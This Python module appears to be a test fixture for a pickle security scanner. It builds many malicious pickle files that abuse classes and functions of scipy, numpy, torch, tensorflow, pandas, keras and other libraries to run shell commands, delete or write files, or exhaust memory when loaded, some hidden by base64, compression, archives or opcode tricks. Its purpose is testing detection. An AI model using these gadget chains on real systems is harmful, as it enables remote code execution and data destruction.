"""Pickles that name only functions and classes of known libraries, which act while they are restored or removed."""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Iterator

from tests.scan.attacks.archives import zipped
from tests.scan.attacks.pickles import COMMAND, EVIL, SYSTEM, call, name, pickle, text

_OLD = b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR."
"""A pickle of protocol 0: it has no mark."""


def _bytes(content: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(content)) + content


def _made(kind: bytes, *state: bytes) -> bytes:
    """Return the instructions that make an object without its constructor, and set its state."""
    return kind + b")\x81" + b"".join(state) + b"b"


def _items(**values: bytes) -> bytes:
    return b"}(" + b"".join(text(key) + value for key, value in values.items()) + b"u"


def restoring_pickles() -> Iterator[tuple[str, bytes]]:
    """Yield pickles that act by what classes of libraries do with their state, or functions with their arguments."""
    source = f"__import__('os').system({COMMAND!r})\ndef _parse_args(*a): pass\n_parse_args_stats = _parse_args_rvs = _parse_args\n"
    yield (
        "scipy_distribution_source.pkl",
        pickle(
            _made(
                name("scipy.stats._continuous_distns", "norm_gen"),
                _items(_parse_arg_template=b"X" + struct.pack("<I", len(source)) + source.encode()),
            )
        ),
    )
    removed = _items(_istmpdest=b"\x88", _destpath=text("/tmp/x"))
    yield "numpy_source_removes.pkl", pickle(_made(name("numpy.lib._datasource", "DataSource"), removed), b"0}")
    yield "numpy_repository_removes.pkl", pickle(_made(name("numpy.lib._datasource", "Repository"), removed), b"0}")
    yield (
        "callback_removes.pkl",
        pickle(
            _made(
                name("transformers.integrations.integration_utils", "NeptuneCallback"),
                _items(_volatile_checkpoints_dir=text("/tmp/x")),
            )
        ),
    )
    for title, content in {"": EVIL, "_old": _OLD}.items():
        for kind in ("Iter", "Map"):
            yield (
                f"data_pipe_{kind.lower()}{title}.pkl",
                pickle(
                    _made(
                        name("torch.utils.data.datapipes.datapipe", f"_{kind}DataPipeSerializationWrapper"),
                        _bytes(content) + b"\x89\x86",
                    )
                ),
            )
    yield (
        "pointer_deleter.pkl",
        pickle(
            _made(
                name("tensorflow.python.framework.c_api_util", "UniquePtr"),
                _items(_obj=text("/tmp/x"), deleter=name("pandas.io.excel._base", "ExcelWriter")),
            )
        ),
    )
    yield (
        "loader_workers.pkl",
        pickle(
            _made(
                name("torch.utils.data.dataloader", "_MultiProcessingDataLoaderIter"),
                _items(_pin_memory_thread=b"N", _workers=b"]"),
            )
        ),
    )
    yield (
        "stubs_are_put_back.pkl",
        pickle(
            _made(
                name("tensorflow.python.platform.googletest", "StubOutForTesting"),
                _items(
                    cache=b"]",
                    stubs=b"](" + name("torch.nn", "Module") + text("forward") + name("torch.nn", "Linear") + b"te",
                ),
            )
        ),
    )
    settings = _made(name("ultralytics.utils", "SettingsManager"), _items(file_path=text("/tmp/x")))
    yield "settings_are_written.pkl", pickle(settings, text("key"), text("value"), b"s")
    write = name("pandas.io.excel._openpyxl", "OpenpyxlWriter")
    yield (
        "rebuilt_by_any_class.pkl",
        pickle(
            call(name("torch._tensor", "_rebuild_from_type_v2"), write, write, b"(" + text("/tmp/x.xlsx") + b"t", b"}")
        ),
    )
    yield (
        "rebuilt_by_partial.pkl",
        pickle(
            call(
                name("torch._tensor", "_rebuild_from_type_v2"),
                call(name("functools", "partial"), name("scipy.io._fortran", "FortranFile"), text("/tmp/x"), text("w")),
                name("torch", "Tensor"), b")", b"}",
            )
        ),
    )  # fmt: skip
    yield (
        "generator_of_any_class.pkl",
        pickle(call(name("numpy.random._pickle", "__generator_ctor"), text("/tmp/x.xlsx"), write)),
    )
    yield (
        "state_of_any_class.pkl",
        pickle(call(name("numpy.random._pickle", "__randomstate_ctor"), text("/tmp/x.xlsx"), write)),
    )
    yield (
        "bits_of_any_class.pkl",
        pickle(
            call(
                name("numpy.random._pickle", "__bit_generator_ctor"),
                name("tensorflow.python.training.server_lib", "Server"),
            )
        ),
    )
    yield (
        "reconstructed_from_any_base.pkl",
        pickle(call(name("copyreg", "_reconstructor"), write, write, text("/tmp/x.xlsx"))),
    )
    yield (
        "reconstructed_python2.pkl",
        b"ccopy_reg\n_reconstructor\n(cpandas.io.excel._openpyxl\nOpenpyxlWriter\ng0\nS'/tmp/x'\ntR.".replace(
            b"g0\n", b"cpandas.io.excel._openpyxl\nOpenpyxlWriter\n"
        ),
    )
    yield "process_group.pkl", pickle(call(name("accelerate.state", "PartialState"), b""))
    yield (
        "environment_is_made.pkl",
        pickle(
            _made(
                name("gymnasium.envs.mujoco.ant_v4", "AntEnv"),
                _items(
                    _ezpickle_args=b"(" + text("/tmp/x.xml") + b"t", _ezpickle_kwargs=_items(xml_file=text("/tmp/x"))
                ),
            )
        ),
    )
    yield (
        "base64_in_text.pkl",
        pickle(b"}", text("payload"), text(base64.b64encode(EVIL).decode()), b"s"),
    )
    yield "old_pickle_in_bytes.pkl", pickle(b"}", text("payload"), _bytes(_OLD), b"s")
    yield "old_pickle_in_text.pkl", pickle(b"}", text("payload"), text(_OLD.decode()), b"s")
    yield (
        "compressed_in_bytes.pkl",
        pickle(b"}", text("payload"), _bytes(zlib.compress(EVIL)), b"s"),
    )
    yield (
        "archive_in_bytes.pkl",
        pickle(b"}", text("payload"), _bytes(zipped([("m/data.pkl", EVIL)])), b"s"),
    )
    yield "keras_unpickled.pkl", pickle(
        call(
            name("keras.src.saving.keras_saveable", "KerasSaveable._unpickle_model"),
            call(name("_io", "BytesIO"), _bytes(zipped([("m/data.pkl", EVIL)]))),
        )
    )  # fmt: skip
    yield "ufunc_of_any_module.pkl", pickle(call(name("numpy._core", "_ufunc_reconstruct"), text("os"), text("system")))
    yield "ufunc_old_name.pkl", pickle(call(name("numpy.core", "_ufunc_reconstruct"), text("evil_module"), text("f")))
    yield (
        "mixed_protocols.pkl",
        b"\x80\x02(lp0\n\x80\x05\x95" + struct.pack("<Q", 3) + b"K\x01a" + SYSTEM + b"a.",
    )
    yield "memo_by_two_ways.pkl", pickle(
        text("os"), b"q\x05", b"0", text("system"), b"\x94", b"0", b"h\x05", b"h\x01", b"\x93(", text(COMMAND), b"tR"
    )  # fmt: skip
    yield "memo_of_a_list.pkl", pickle(
        b"]\x94", b"(", text("posix"), text("system"), b"e0", name("posix", "system"), b"\x940h\x01(", text(COMMAND), b"tR"
    )  # fmt: skip
    yield "persistent_in_list.pkl", pickle(b"(", text("module"), name("os", "system"), text("x"), text("y"), b"tQ")
    yield (
        "newobj_ex_thread.pkl",
        pickle(
            name("concurrent.futures", "ThreadPoolExecutor"), b")}", text("initializer"), name("os", "abort"), b"s\x92"
        ),
    )
    yield (
        "obj_without_arguments.pkl",
        pickle(b"(", name("webbrowser", "open_new"), text("http://host"), b"o"),
    )
    yield "inst_python2.pkl", b"(S'" + COMMAND.encode() + b"'\nicommands\ngetoutput\n."
    yield "build_with_pair.pkl", pickle(
        name("torch.nn", "Module"), b")\x81", b"N", _items(__class__=name("code", "InteractiveConsole")), b"\x86b"
    )  # fmt: skip
    yield "names_with_spaces.pkl", pickle(name("os ", "system"))[:-1] + b"0" + SYSTEM + b"."
    yield (
        "dotted_in_allowed_module.pkl",
        pickle(call(name("collections", "abc.sys.modules.__class__"), b"")),
    )
    yield (
        "dotted_in_class.pkl",
        pickle(call(name("torch.nn", "Module.__init__.__globals__.__getitem__"), text("torch"))),
    )
    yield (
        "class_attribute.pkl",
        pickle(
            call(call(name("builtins", "getattr"), name("sklearn.base", "BaseEstimator"), text("__init_subclass__")))
        ),
    )
    yield "sequences_without_end.pkl", pickle(
        call(name("builtins", "list"), call(name("itertools", "repeat"), b"K\x01"))
    )  # fmt: skip
    yield "huge_bytes.pkl", pickle(call(name("builtins", "bytearray"), b"\x8a\x06\0\0\0\0\0\x40"))
